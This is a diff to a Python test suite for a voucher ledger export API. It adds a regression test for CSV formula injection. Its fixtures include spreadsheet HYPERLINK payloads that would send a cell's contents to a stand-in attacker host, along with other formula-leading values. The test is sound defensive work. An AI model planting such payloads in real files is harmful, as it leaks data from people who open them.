@@ -22,7 +22,7 @@ from services.vouchers.exports import ENTRY_COLUMNS
 from shared.auth import PLATFORM
 from tests.auth import auth
 from tests.conftest import DatabaseFactory
-from tests.exports.helpers import ROLES, as_csv, assert_problem, csv_rows, instant, ndjson
+from tests.exports.helpers import FORMULA_STARTS, ROLES, as_csv, assert_problem, csv_rows, instant, ndjson
 
 ROUTE = "/v1/exports/ledger-entries"
 PLATFORM_HEADERS = auth(PLATFORM, name="data platform")
@@ -43,7 +43,17 @@ MEMOS: list[str | None] = [
     None,
     "=SUM(A1:A2)",
     "\\N",
+    # what a spreadsheet would run as a formula (issue #12): neutralised in CSV, verbatim in NDJSON
+    '=HYPERLINK("https://attacker.example/?d="&A1,"查看发票")',
+    "+86 755 8888 0000",
+    "-1",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "\r=1+1",
+    "a=b, not at the start",
 ]
+#: a vendor's contract number as the issue found it reaching the CSV verbatim
+HOSTILE_CONTRACT = '=HYPERLINK("https://attacker.example/","合同 HT-001")'
 #: (created_at, kind, memo index) of the entries besides the issue entry
 MOMENTS = [
     SHANGHAI_MARCH_1 - timedelta(days=3),
@@ -130,6 +140,15 @@ async def ledger(ledger_database: str) -> dict[str, Any]:
                 vouchers["EXPORT-A"]["id"],
                 memo,
             )
+        await connection.execute(
+            "INSERT INTO vouchers.entries (created_at, kind, from_account_id, to_account_id, amount_fen, "
+            "voucher_id, contract_ref, actor) VALUES ($1, 'redeem', $2, $3, 7, $4, $5, '91440300708461136T')",
+            SHANGHAI_MARCH_1 + timedelta(days=90),
+            vouchers["EXPORT-B"]["account"],
+            vendor,
+            vouchers["EXPORT-B"]["id"],
+            HOSTILE_CONTRACT,
+        )
         rows = await connection.fetch(
             "SELECT e.*, fa.kind AS from_kind, fa.ref AS from_ref, ta.kind AS to_kind, ta.ref AS to_ref "
             "FROM vouchers.entries e JOIN vouchers.accounts fa ON fa.id = e.from_account_id "
@@ -162,6 +181,10 @@ async def client(vouchers_export_app: FastAPI) -> AsyncIterator[httpx.AsyncClien
     transport = httpx.ASGITransport(app=vouchers_export_app)
     async with httpx.AsyncClient(transport=transport, base_url="http://vouchers", timeout=30) as http:
         yield http
+
+
+#: which columns are text (neutralised in CSV against formula injection)
+TEXT = {column.name: column.kind == "text" for column in ENTRY_COLUMNS}
 
 
 def expected(row: dict[str, Any]) -> dict[str, Any]:
@@ -201,8 +224,8 @@ async def test_csv_round_trip(client: httpx.AsyncClient, ledger: dict[str, Any])
     for row, stored in zip(rows, ledger["rows"], strict=True):
         want = expected(stored)
         assert instant(row.pop("created_at")) == want.pop("created_at")
-        assert row == {name: as_csv(value) for name, value in want.items()}
-    assert {row["memo"] for row in rows} == {memo or "" for memo in MEMOS}
+        assert row == {name: as_csv(value, text=TEXT[name]) for name, value in want.items()}
+    assert {row["memo"] for row in rows} == {as_csv(memo, text=True) for memo in MEMOS}
     assert response.headers["content-disposition"].endswith('.csv"')
     assert "header=present" in response.headers["content-type"]
 
@@ -223,6 +246,27 @@ async def test_csv_quoting_is_rfc_4180_and_null_differs_from_empty(
     assert lines[str(empty["id"])].endswith(',""')
     assert lines[str(null["id"])].endswith(",")
     assert not lines[str(null["id"])].endswith('""')
+
+
+async def test_csv_neutralises_what_a_spreadsheet_would_run_as_a_formula(
+    client: httpx.AsyncClient, ledger: dict[str, Any]
+) -> None:
+    """A vendor's contract number `=HYPERLINK(…)` reached the CSV verbatim (issue #12): a text cell starting with
+    `=`, `+`, `-`, `@`, tab or CR gets a `'` in front in CSV; NDJSON and the numbers are left as they are."""
+    response = await client.get(ROUTE, params={"format": "csv", "bom": "true"}, headers=PLATFORM_HEADERS)
+    _, rows = csv_rows(response, bom=True)
+    [hostile] = [row for row in rows if row["contract_ref"].endswith('合同 HT-001")')]
+    assert hostile["contract_ref"] == "'" + HOSTILE_CONTRACT
+    assert hostile["amount_fen"] == "7"
+    memos = {row["memo"] for row in rows}
+    for memo in ("=SUM(A1:A2)", "+86 755 8888 0000", "-1", "@SUM(A1:A9)", "\tcmd", "\r=1+1"):
+        assert "'" + memo in memos
+        assert memo not in memos
+    assert "a=b, not at the start" in memos
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values())
+    records, _ = ndjson(await client.get(ROUTE, headers=PLATFORM_HEADERS))
+    assert HOSTILE_CONTRACT in {r["contract_ref"] for r in records}  # NDJSON is data, not a spreadsheet
+    assert {r["memo"] for r in records} == set(MEMOS)
 
 
 async def test_csv_with_a_byte_order_mark_for_excel(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
